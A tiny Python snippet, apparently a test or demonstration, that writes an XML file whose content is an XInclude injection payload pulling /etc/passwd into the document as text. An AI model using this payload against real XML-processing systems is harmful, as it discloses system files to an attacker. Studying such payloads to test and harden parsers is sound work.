def visits(text):
    park.remove("visits.csv")
    park.write("visits.xml", text)


visits('<visits period="2025Q1" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></visits>')
